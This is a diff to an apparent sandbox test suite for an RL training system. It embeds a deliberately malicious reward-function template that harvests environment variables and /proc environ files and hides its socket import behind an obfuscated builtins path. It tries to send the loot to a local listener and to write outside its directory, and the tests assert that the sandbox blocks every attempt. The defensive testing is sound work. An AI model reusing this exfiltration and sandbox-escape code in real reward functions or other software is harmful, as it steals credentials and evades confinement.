@@ -21,8 +21,8 @@ from langmarl.p2p.reward.validation import check_runtime, check_static
 from langmarl.testing.listener import LoopbackListener
 
 TINY = {
-    "total_timesteps": 512, "num_steps": 256, "batch_size": 64, "n_epochs": 1, "num_evals": 1,
-    "eval_episodes": 2, "max_episode_steps": 100, "record_video": False,
+    "total_timesteps": 256, "num_steps": 128, "batch_size": 64, "n_epochs": 1, "num_evals": 1,
+    "eval_episodes": 2, "max_episode_steps": 50, "record_video": False,
 }  # fmt: skip
 SECRETS = ("secretpw", "tok-51c2-very-secret")
 
@@ -31,6 +31,7 @@ import json, os, socket, subprocess, sys
 
 PORT = {port}
 REPORT = {report!r}
+TARGET = {target!r}
 _state = {{"done": False}}
 
 
@@ -44,11 +45,11 @@ def _attempt(outcomes, name, action):
 
 def _exfiltrate():
     loot = {{"env": dict(os.environ)}}
-    for pid in (os.getppid(), 1):
+    for name, pid in (("parent", os.getppid()), ("init", 1)):
         try:
-            loot[f"proc{{pid}}"] = open(f"/proc/{{pid}}/environ", "rb").read().decode("latin-1")
+            loot[name] = open(f"/proc/{{pid}}/environ", "rb").read().decode("latin-1")
         except OSError as exc:
-            loot[f"proc{{pid}}"] = repr(exc)
+            loot[name] = repr(exc)
     blob = json.dumps(loot).encode()
     builtins = np.ma.core.builtins
     raw = builtins.__import__("socket")
@@ -60,6 +61,8 @@ def _exfiltrate():
              ".sendto(sys.stdin.buffer.read(), ('127.0.0.1', %d))" % PORT)
     _attempt(outcomes, "child_udp",
              lambda: subprocess.run([sys.executable, "-c", child], input=blob, check=True))
+    _attempt(outcomes, "write_outside", lambda: open(TARGET, "w").write("pwned"))
+    _attempt(outcomes, "list_tmp", lambda: os.listdir("/tmp"))
     if REPORT:
         with open(REPORT, "w") as handle:
             json.dump({{"outcomes": outcomes, "loot": loot}}, handle)
@@ -110,8 +113,10 @@ def test_training_a_reward_that_exfiltrates_leaks_nothing(
     port = listener.port
     iteration = IterationRecord(tmp_path / "iter_1")
     report = iteration.path / "escape_report.json"  # the run dir: the reward may write there
+    target = tmp_path / "outside" / "escaped.txt"
+    target.parent.mkdir()
     reward = tmp_path / "reward_fn.py"
-    reward.write_text(EXFILTRATING_REWARD.format(port=port, report=str(report)))
+    reward.write_text(EXFILTRATING_REWARD.format(port=port, report=str(report), target=str(target)))
     config = TrainConfig.for_env("InvertedPendulum-v5", **TINY)
     aggregation = train_runs(iteration, reward, [config], [1], timeout_s=200)
     assert aggregation.errors == {}, aggregation.errors  # the attack did not stop training
@@ -121,7 +126,11 @@ def test_training_a_reward_that_exfiltrates_leaks_nothing(
     assert "network_blocked" in outcomes["udp"] and outcomes["tcp"].startswith("PermissionError")
     assert outcomes["child_udp"].startswith("CalledProcessError")  # seccomp/netns, no hook there
     assert not {"DATABASE_URL", "TOKEN"} & set(escape["loot"]["env"])
-    assert "PermissionError" in escape["loot"][f"proc{1}"]
+    assert "PermissionError" in escape["loot"]["init"]
+    assert "PermissionError" in escape["loot"]["parent"]
+    # confined to the run dir: no host file written, /tmp not even listable
+    assert outcomes["write_outside"].startswith("PermissionError") and not target.exists()
+    assert outcomes["list_tmp"].startswith("PermissionError")
     assert _files_holding(tmp_path, SECRETS) == []
 
 
@@ -132,7 +141,7 @@ def test_a_reward_hiding_behind_try_except_passes_the_runtime_check_but_gets_not
     """The runtime check cannot see the attack (it is swallowed) - and need not: the check
     and training both run it confined. The static check does refuse it."""
     port = listener.port
-    source = EXFILTRATING_REWARD.format(port=port, report="")
+    source = EXFILTRATING_REWARD.format(port=port, report="", target="/nonexistent/x")
     static = check_static(source)
     assert static.stage == "imports" and "`np.ma.core.builtins` is not allowed" in static.message()
     runtime = check_runtime(source, "InvertedPendulum-v5", steps=10)
